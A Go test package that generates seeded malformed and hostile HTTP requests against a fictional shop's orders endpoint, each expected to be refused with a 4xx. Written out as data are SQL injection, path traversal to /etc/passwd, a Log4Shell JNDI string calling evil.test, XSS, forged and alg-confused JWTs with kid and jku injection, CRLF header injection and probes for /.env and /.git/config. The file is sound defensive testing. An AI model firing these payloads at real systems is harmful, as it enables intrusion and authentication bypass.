// Package hostile makes requests that nobody sends in good faith: bodies that are
// no order, tokens that are none of ours, headers that mean something else than
// they seem to. Each must be refused, with a status of 4xx.
//
// They are drawn from a generator with a seed, so that the ten-thousandth of a
// seed is the same everywhere, and a fault that one of them has found can be looked
// at again. All are well-formed HTTP, which any client can send; what is not is
// refused by net/http, and by the guard in chapter 3's edge, before a bouncer sees it.
package hostile

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"iter"
	"math/rand/v2"
	"strings"
	"time"
)

// Config says whom the requests are sent to.
type Config struct {
	// Seed begins the generator. The same seed gives the same requests, but for the
	// time in some tokens.
	Seed uint64
	// Token is a good one, with the scope to order. Requests whose fault is elsewhere
	// bear it, so that nothing else refuses them.
	Token string
	// Other is a good one as well, but without that scope.
	Other string
	// Path is where orders are posted to: "/orders".
	Path string
	// MaxBody is above how many octets a body is too large.
	MaxBody int
}

// Request is one of them.
type Request struct {
	// Kind says in two words what is wrong with it: "body: truncated".
	Kind           string
	Method, Target string
	// Header is in the order in which it is sent, a name twice being two lines. Host
	// and the body's length are not in it.
	Header []Field
	Body   []byte
	// Chunked says that the body's length is not to be told.
	Chunked bool
}

// Field is a line of the header. Its value has no line ends and no control
// characters but tabs, and may have octets that are no text.
type Field struct{ Name, Value string }

// Secret is in many of them, in tokens, notes and cookies. It must be neither in an
// answer nor in a log.
const Secret = "hunter2hunter2"

// Requests are as many as are asked for: the sequence does not end.
func Requests(c Config) iter.Seq[Request] {
	g := &generator{Config: c, Rand: rand.New(rand.NewPCG(c.Seed, c.Seed))}
	kinds := []func() Request{g.badBody, g.badBody, g.badBody, g.badToken, g.badToken, g.badHeader, g.badHeader, g.badTarget}
	return func(yield func(Request) bool) {
		for yield(kinds[g.IntN(len(kinds))]()) {
		}
	}
}

type generator struct {
	Config
	*rand.Rand
}

const good = `{"lines":[{"dish":"ramen","quantity":1}]}`

// order is a request that would be accepted.
func (g *generator) order(kind string, body []byte) Request {
	return Request{
		Kind: kind, Method: "POST", Target: g.Path, Body: body,
		Header: []Field{
			{"Authorization", "Bearer " + g.Token}, {"Content-Type", "application/json"}, {"Accept", "application/json"},
			{"Idempotency-Key", fmt.Sprintf("%016x", g.Uint64())},
		},
	}
}

// set replaces the fields of that name.
func (r *Request) set(name string, values ...string) {
	var rest []Field
	for _, f := range r.Header {
		if !strings.EqualFold(f.Name, name) {
			rest = append(rest, f)
		}
	}
	for _, v := range values {
		rest = append(rest, Field{name, v})
	}
	r.Header = rest
}

func pick[T any](g *generator, from ...T) T { return from[g.IntN(len(from))] }

// text is some octets that are no control characters.
func (g *generator) text(most int) string {
	b := make([]byte, 1+g.IntN(most))
	for i := range b {
		b[i] = pick(g, byte(' '+g.IntN('~'-' '+1)), byte(0x80+g.IntN(0x80)), 'a'+byte(g.IntN(26)))
	}
	return strings.Trim(string(b), " ") + "x"
}

func (g *generator) octets(most int) []byte {
	b := make([]byte, 1+g.IntN(most))
	for i := range b {
		b[i] = byte(g.Uint32())
	}
	return b
}

// badBody has a body that is no order.
func (g *generator) badBody() Request {
	nested := 1000 + g.IntN(20000)
	line := func(dish, quantity string) string {
		return fmt.Sprintf(`{"lines":[{"dish":%s,"quantity":%s}],"note":%q}`, dish, quantity, Secret)
	}
	var kind, body string
	switch g.IntN(16) {
	case 0:
		kind, body = "truncated", good[:1+g.IntN(len(good)-2)]
	case 1:
		kind, body = "octets", "\x00"+string(g.octets(2000))
	case 2:
		kind, body = "deep array", strings.Repeat("[", nested)+strings.Repeat("]", nested)
	case 3:
		kind, body = "deep object", strings.Repeat(`{"lines":`, nested/4)
	case 4:
		kind, body = "quantity", line(`"ramen"`, pick(g, "-1", "0", "1.5", "1e999", "99999999999999999999", `"1"`, "null", "true", "[]", "{}", "NaN", "0x10", "-9223372036854775808", "9223372036854775807"))
	case 5:
		dish, _ := json.Marshal(g.text(200))
		kind, body = "dish", line(string(dish), "1")
	case 6:
		kind, body = "dish of another type", line(pick(g, "1", "null", "[]", "{}", "true", `""`), "1")
	case 7:
		kind, body = "injected", line(pick(g, `"ramen' OR '1'='1"`, `"ramen\u0000"`, `"../../../etc/passwd"`, `"${jndi:ldap://evil.test/a}"`, `"{{7*7}}"`, `"<script>alert(1)</script>"`, `"%s%n%x"`, `"\ud800"`, `"RAMEN"`, `" ramen"`), "1")
	case 8:
		kind, body = "lines", pick(g, `{}`, `null`, `[]`, `"ramen"`, `1`, `{"lines":null}`, `{"lines":[]}`, `{"lines":{}}`, `{"lines":"ramen"}`, `{"lines":[null]}`, `{"lines":[[]]}`, `{"lines":[{}]}`, `{"line":[{"dish":"ramen","quantity":1}]}`)
	case 9:
		kind, body = "too many lines", `{"lines":[`+strings.Repeat(`{"dish":"ramen","quantity":1},`, 100+g.IntN(200))+`{"dish":"ramen","quantity":1}]}`
	case 10:
		kind, body = "another text", pick(g, "\xff\xfe{\x00}\x00", "\xef\xbb\xbf"+good, "<order><dish>ramen</dish></order>", "dish=ramen&quantity=1", "lines:\n- dish: ramen", "'"+good+"'", "{lines:[{dish:'ramen',quantity:1}]}", `{"lines":[{"dish":"ramen","quantity":1},]}`, "/**/"+good)
	case 11:
		kind, body = "mutated", string(g.mutated())
	case 12:
		kind, body = "too large", `{"note":"`+strings.Repeat("x", g.MaxBody+g.IntN(1000))
	case 13:
		kind, body = "large number", `{"lines":[{"dish":"ramen","quantity":1`+strings.Repeat("0", 1+g.IntN(5000)+20)+`}]}`
	case 14:
		kind, body = "empty", ""
	case 15:
		kind, body = "spaces", strings.Repeat(pick(g, " ", "\n", "\t"), 1+g.IntN(5000))
	}
	r := g.order("body: "+kind, []byte(body))
	r.Chunked = g.IntN(3) == 0
	return r
}

// mutated is the good order with octets changed in a way that leaves it no JSON.
func (g *generator) mutated() []byte {
	for {
		b := []byte(good)
		for range 1 + g.IntN(5) {
			i := g.IntN(len(b))
			switch g.IntN(3) {
			case 0:
				b[i] = byte(g.Uint32())
			case 1:
				b = append(b[:i], b[i+1:]...)
			case 2:
				b = append(b[:i], append(g.octets(3), b[i:]...)...)
			}
		}
		// A reader of one value stops behind it, so the fault must come before.
		if json.NewDecoder(bytes.NewReader(b)).Decode(new(any)) != nil {
			return b
		}
	}
}

// badToken has a token that is not accepted, or none, or one that does not do.
func (g *generator) badToken() Request {
	r := g.order("", []byte(good))
	now := time.Now().Unix()
	claims := func(change map[string]any) string {
		all := map[string]any{"iss": "https://shop.test", "aud": "https://shop.test/orders", "sub": "mallory", "scope": "orders:write", "exp": now + 3600, "note": Secret}
		for name, v := range change {
			if all[name] = v; v == nil {
				delete(all, name)
			}
		}
		text, _ := json.Marshal(all)
		return string(text)
	}
	parts := strings.Split(g.Token, ".")
	header := func(alg string) string { return fmt.Sprintf(`{"alg":%q,"typ":"JWT"}`, alg) }
	var kind string
	var fields []string
	bearer := func(token string) { fields = []string{"Bearer " + token} }
	switch g.IntN(16) {
	case 0:
		kind = "none"
	case 1:
		kind = "of another scope"
		bearer(g.Other)
	case 2:
		kind = "alg"
		bearer(signed(pick(g, header("none"), header("None"), header("hs256"), header("HS384"), header("RS256"), header("ES256"), header("EdDSA"), header(""), `{}`, `{"alg":null}`, `{"alg":1}`, `{"alg":["HS256"]}`), claims(nil), pick(g, "", Secret)))
	case 3:
		kind = "signed by another"
		bearer(signed(header("HS256"), claims(nil), pick(g, Secret, "secret", "", strings.Repeat("\x00", 32))))
	case 4:
		kind = "key inside"
		bearer(signed(fmt.Sprintf(`{"alg":"HS256","kid":%q,"jku":"https://evil.test/jwks.json","jwk":{"kty":"oct","k":%q}}`, pick(g, "../../dev/null", "' UNION SELECT '"+Secret, "/etc/passwd", g.text(50)), encode(Secret)), claims(nil), Secret))
	case 5:
		kind = "other claims, old signature"
		bearer(parts[0] + "." + encode(claims(nil)) + "." + parts[2])
	case 6:
		kind = "claims of another type"
		bearer(signed(header("HS256"), pick(g, claims(map[string]any{"exp": "tomorrow"}), claims(map[string]any{"exp": -1}), claims(map[string]any{"exp": nil}), claims(map[string]any{"sub": []int{1}}), claims(map[string]any{"aud": 7}), claims(map[string]any{"exp": 1e300}), "[]", "null", "7", "{", "", strings.Repeat("[", 3000)), Secret))
	case 7:
		kind = "octet changed"
		b := []byte(g.Token)
		i := g.IntN(len(b) - 2) // the last letter's lowest bits count for nothing
		for was := b[i]; b[i] == was || b[i] == '.'; {
			b[i] = pick(g, byte('a'+g.IntN(26)), byte('A'+g.IntN(26)), '-', '_', '=', '/')
		}
		bearer(string(b))
	case 8:
		kind = "truncated"
		bearer(g.Token[:g.IntN(len(g.Token)-2)])
	case 9:
		kind = "parts"
		bearer(pick(g, parts[0], parts[0]+"."+parts[1], parts[0]+"."+parts[1]+".", "."+parts[1]+"."+parts[2], "..", "...", g.Token+"."+parts[2], g.Token+".", strings.Repeat(".", 1000)))
	case 10:
		kind = "text"
		bearer(g.text(500))
	case 11:
		kind = "long"
		bearer(strings.Repeat(pick(g, "a", "eyJ", "."), 2000+g.IntN(20000)))
	case 12:
		kind = "twice"
		fields = []string{"Bearer " + g.Token, "Bearer " + pick(g, g.Token, Secret)}
	case 13:
		kind = "scheme"
		fields = []string{pick(g, "Basic YWRhOmh1bnRlcjI=", "Bearer", "Bearer ", "bearer\t"+g.Token, "Bearer\u00a0"+g.Token, "Token "+g.Token, g.Token, "Digest username=\"ada\"", "Bearer "+g.Token+", Bearer "+g.Token, "Bearer \""+g.Token+"\"")}
	case 14:
		kind = "five parts"
		bearer(strings.Join([]string{encode(`{"alg":"dir","enc":"A256GCM"}`), "", encode(Secret), encode(Secret), encode(Secret)}, "."))
	case 15:
		kind = "elsewhere"
		r.Target += "?access_token=" + g.Token + "&token=" + g.Token
		r.set("Cookie", "token="+g.Token+"; session="+Secret)
		r.set("X-Authorization", "Bearer "+g.Token)
	}
	r.Kind = "token: " + kind
	r.set("Authorization", fields...)
	return r
}

// badHeader has a field that is not accepted. Its body would be.
func (g *generator) badHeader() Request {
	r := g.order("", []byte(good))
	var kind string
	switch g.IntN(9) {
	case 0:
		kind = "Content-Type"
		r.set(kind, pick(g, "text/plain", "text/plain; x=application/json", "application/xml", "application/json5", "application/json; charset=utf-7", "application/json; charset", "application/json, text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary="+strings.Repeat("x", 300), "*/*", "json", ";", `application/json; a="`, g.text(300)))
	case 1:
		kind = "two Content-Types"
		r.set("Content-Type", "application/json", pick(g, "application/json", "text/plain"))
	case 2:
		kind = "no Content-Type"
		r.set("Content-Type")
	case 3:
		kind = "Content-Encoding"
		r.set(kind, pick(g, "gzip", "br", "deflate", "identity, gzip", "x", "gzip, gzip, gzip, gzip"))
	case 4:
		kind = "Accept"
		r.set(kind, pick(g, "text/html", "image/*", "application/json;q=0", "*/*;q=0", "application/json;q=0, */*", "application/jsonp", strings.Repeat("text/plain,", 5000)+"text/plain", "x/"+strings.Repeat("y", 1000)))
	case 5:
		kind = "preflight"
		r = Request{Method: "OPTIONS", Target: g.Path}
		r.set("Origin", pick(g, "https://evil-shop.test", "null", "https://shop.test.evil.test", "https://shop.test:8443, https://evil.test", "//", g.text(200), strings.Repeat("https://evil.test ", 500)))
		r.set("Access-Control-Request-Method", pick(g, "POST", "DELETE", "GET", g.text(20)))
		r.set("Access-Control-Request-Headers", pick(g, "authorization", strings.Repeat("x,", 20000), g.text(300)))
	case 6:
		kind = "method"
		r.Method = pick(g, "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "BREW", "post", "GETS", "OPTIONS")
	case 7:
		kind = "Content-Length"
		r.Body = bytes.Repeat([]byte(" "), g.MaxBody+1+g.IntN(10000))
	case 8:
		kind = "who is asked"
		r.set("Authorization")
		for _, name := range []string{"X-Forwarded-For", "X-Real-IP", "Forwarded", "X-Request-ID", "X-Original-URL", "X-HTTP-Method-Override", "X-User", "True-Client-IP", "X-Forwarded-Host"} {
			r.set(name, pick(g, "127.0.0.1", "::1", "admin", "/admin", `7" level=ERROR msg="`+Secret, strings.Repeat("9", 5000), g.text(300)))
		}
	}
	r.Kind = "header: " + kind
	return r
}

// badTarget asks for what is not there.
func (g *generator) badTarget() Request {
	r := g.order("target", nil)
	r.set("Content-Type")
	r.Method = pick(g, "GET", "POST", "PUT", "DELETE", "HEAD")
	r.Target = pick(g,
		"/wp-admin", "/.git/config", "/.env", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd", "/debug/pprof/", "/metrics", "/admin",
		g.Path+"/", "/"+g.Path, strings.ToUpper(g.Path), g.Path+"%00", g.Path+"%0d%0aSet-Cookie:%20a=b", g.Path+";a=b", g.Path+"%2f..%2fmenu", "/"+strings.Repeat("a", 8000),
		"/"+strings.Repeat("a/", 3000), "/%ff%fe", "/?"+strings.Repeat("a=b&", 2000), "/;", "/*", "/"+encode(g.text(100)), "/search?q='%20OR%201=1--", "/%252e%252e/", "/$%7Bjndi:ldap://evil.test/a%7D")
	return r
}

// signed is a token with this header and these claims, signed by HS256 whatever the
// header says, or not at all if secret is empty.
func signed(header, claims, secret string) string {
	text := encode(header) + "." + encode(claims)
	if secret == "" {
		return text + "."
	}
	mac := hmac.New(sha256.New, []byte(secret))
	mac.Write([]byte(text))
	return text + "." + encode(string(mac.Sum(nil)))
}

func encode(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
